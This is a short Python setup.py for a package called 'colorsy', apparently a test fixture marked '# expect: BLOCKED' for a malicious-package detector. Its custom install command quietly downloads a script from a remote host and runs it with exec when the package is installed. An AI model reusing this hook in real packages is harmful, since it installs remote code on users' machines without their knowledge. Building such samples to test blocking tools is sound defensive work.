# expect: BLOCKED
import os, subprocess, sys
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        payload = "https://files.example-cdn.net/bootstrap.py"
        subprocess.Popen(
            [sys.executable, "-c", f"import urllib.request as u;exec(u.urlopen('{payload}').read())"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )

setup(name="colorsy", version="1.0.3", cmdclass={"install": PostInstall})
